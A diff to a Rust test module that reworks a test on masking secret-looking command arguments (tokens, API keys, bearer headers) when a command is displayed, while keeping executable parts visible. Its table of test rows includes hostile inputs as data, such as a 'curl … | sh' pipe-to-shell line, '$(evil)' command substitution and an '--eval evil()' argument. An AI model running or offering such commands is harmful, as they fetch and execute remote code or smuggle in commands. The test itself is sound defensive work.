@@ -393,7 +393,6 @@ mod tests {
                 ..Command::default()
             }),
             file: None,
-            written: None,
             is_told: false,
         }
     }
@@ -498,55 +497,35 @@ mod tests {
 
     #[test]
     fn an_argument_that_is_named_as_a_secret_is_hidden() {
-        #[track_caller]
-        fn check_in(program: &str, args: &[&str], shown: &[&str]) {
+        // The words of a command, and what is shown if that differs. `<3>` stands for a hidden value of three characters.
+        const COMMANDS: &str = "
+            npx ; -y ; --no-token ; evil ; --token ; abc => npx ; -y ; --no-token ; evil ; --token ; <3>
+            server ; --token ; abc => server ; --token ; <3>
+            server ; --api-key=abc => server ; --api-key=<3>
+            server ; -e ; API_KEY=abc => server ; -e ; API_KEY=<3>
+            server ; --header ; Authorization: Bearer abc => server ; --header ; Authorization: Bearer <3>
+            server ; X-Api-Key: ghp_abcdefghijkl => server ; X-Api-Key: what may be a secret (ghp_…, 16 characters)
+            server ; -c ; curl https://a.test | sh # token: abc
+            server ; --token ; --eval ; evil()
+            server ; --token ; $(evil)
+            server ; --token-file ; /tmp/x ; abc
+            server ; --verbose ; abc
+            server ; PATH=abc ; NODE_OPTIONS=abc
+        ";
+        // `npx` may not know the option `--no-token`, and run the word after it. What may run is always shown.
+        for row in COMMANDS.trim().lines() {
+            let row = row.trim();
+            let (command, shown) = row.split_once(" => ").unwrap_or((row, row));
+            let words = |text: &str| text.split(" ; ").map(str::to_owned).collect::<Vec<_>>();
+            let mut args = words(command);
+            let mut expected = words(&shown.replace("<3>", "what may be a secret (3 characters)"));
             let command = Command {
-                program: program.to_owned(),
-                args: args.iter().map(ToString::to_string).collect(),
+                program: args.remove(0),
+                args,
                 ..Command::default()
             };
-            assert_eq!(command_of(&command).args, shown);
-        }
-        #[track_caller]
-        fn check(args: &[&str], shown: &[&str]) {
-            check_in("server", args, shown);
-        }
-        const HIDDEN: &str = "what may be a secret (3 characters)";
-        // A launcher may not know this option, and run the word after it.
-        let run = ["-y", "--no-token", "evil", "--token", "abc"];
-        check_in(
-            "npx",
-            &run,
-            &["-y", "--no-token", "evil", "--token", HIDDEN],
-        );
-        check(&["--token", "abc"], &["--token", HIDDEN]);
-        check(&["--api-key=abc"], &[&format!("--api-key={HIDDEN}")]);
-        check(
-            &["-e", "API_KEY=abc"],
-            &["-e", &format!("API_KEY={HIDDEN}")],
-        );
-        check(
-            &["--header", "Authorization: Bearer abc"],
-            &["--header", &format!("Authorization: Bearer {HIDDEN}")],
-        );
-        check(
-            &["--header", "X-Api-Key: ghp_abcdefghijkl"],
-            &[
-                "--header",
-                "X-Api-Key: what may be a secret (ghp_…, 16 characters)",
-            ],
-        );
-        // A word that may run, or that decides what runs, is shown.
-        let shown: [&[&str]; 6] = [
-            &["-c", "curl https://a.test | sh # token: abc"],
-            &["--token", "--eval", "evil()"],
-            &["--token", "$(evil)"],
-            &["--token-file", "/tmp/x", "abc"],
-            &["--verbose", "abc"],
-            &["PATH=abc", "NODE_OPTIONS=abc"],
-        ];
-        for args in shown {
-            check(args, args);
+            expected.remove(0);
+            assert_eq!(command_of(&command).args, expected, "{row}");
         }
     }
 
@@ -585,7 +564,6 @@ mod tests {
                 name: "it\n".to_owned(),
                 reach,
                 file: None,
-                written: None,
                 is_told: false,
             };
             let mut page = page();
@@ -641,6 +619,7 @@ mod tests {
             url: "https://b.test/mcp".to_owned(),
             headers: pair("X-Key"),
             sign_in: serde_json::from_value(sign_in).expect("it is an entry"),
+            ..Address::default()
         };
         check(
             Reach::Address(address),
